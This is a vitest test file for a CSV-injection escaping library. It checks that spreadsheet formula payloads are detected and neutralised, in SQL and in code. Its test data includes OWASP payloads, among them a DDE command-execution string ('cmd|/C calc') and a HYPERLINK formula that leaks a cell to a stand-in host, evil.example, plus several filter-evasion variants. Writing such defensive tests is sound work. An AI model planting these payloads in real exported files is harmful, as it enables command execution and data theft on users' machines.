import { expect, test } from 'vitest'
import { quoteLiteral } from '../../lib/core/quote.ts'
import { escapedFormula, escapeFormula, formulaIn, isFormula } from '../../lib/formats/formulas.ts'
import { connectToTestEngine } from '../kit/engine.ts'

// The payloads of OWASP's page on CSV injection, and the ways around a filter of the first character.
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1,"Error")',
  'x,=1+1',
  'x","=1+1',
  'x\n=1+1',
  'x\t@SUM(1)',
  'x;=1+1',
]
const TEXTS = ['', '1', 'a=b', 'a-b', 'user@example.com', 'x, y', 'x ,y', '1,5', 'say "hi"', 'two\nlines', 'ü=', "'=1"]
const separators = { delimiter: ',', quote: '"' }

const literal = (text: string) => text.split('\0').map(quoteLiteral).join(' || chr(0) || ')

test.each(FORMULAS)('%j is a formula, and none once it is escaped, in SQL as in a header', async (text) => {
  const db = await connectToTestEngine()
  const [row] = await db.meta(
    `SELECT ${isFormula('v', separators)} AS is, ${escapeFormula('v', separators)} AS escaped, ${isFormula(`(${escapeFormula('v', separators)})`, separators)} AS still FROM (SELECT ${literal(text)} AS v)`,
  )
  db.close()
  expect(row).toEqual({ is: 'true', escaped: escapedFormula(text, separators), still: 'false' })
  expect(formulaIn(text, separators)).toBe(true)
  expect(formulaIn(escapedFormula(text, separators), separators)).toBe(false)
  expect(escapedFormula(text, separators).replaceAll("'", '')).toBe(text.replaceAll("'", ''))
})

test.each(TEXTS)('%j is no formula, and stays as it is', async (text) => {
  const db = await connectToTestEngine()
  const [row] = await db.meta(
    `SELECT ${isFormula('v', separators)} AS is, ${escapeFormula('v', separators)} AS escaped FROM (SELECT ${literal(text)} AS v)`,
  )
  db.close()
  expect(row).toEqual({ is: 'false', escaped: text })
  expect(formulaIn(text, separators)).toBe(false)
  expect(escapedFormula(text, separators)).toBe(text)
})

test('a sign after the delimiter counts, whichever that is', () => {
  for (const delimiter of [',', ';', '\t', '|', ']', '^', '\\', '-'])
    expect(formulaIn(`x${delimiter}=1`, { delimiter, quote: '"' })).toBe(true)
  expect(formulaIn('x|=1', separators)).toBe(false)
})

test('a sign after what delimits or quotes in a spreadsheet counts, whatever the contract says', () => {
  for (const between of [',', ';', '\t', '"']) expect(formulaIn(`x${between}=1`, { delimiter: '|', quote: "'" })).toBe(true)
})

test('NULL is no formula', async () => {
  const db = await connectToTestEngine()
  const [row] = await db.meta(`SELECT ${escapeFormula('v', separators)} AS escaped FROM (SELECT NULL::VARCHAR AS v)`)
  db.close()
  expect(row).toEqual({ escaped: null })
})
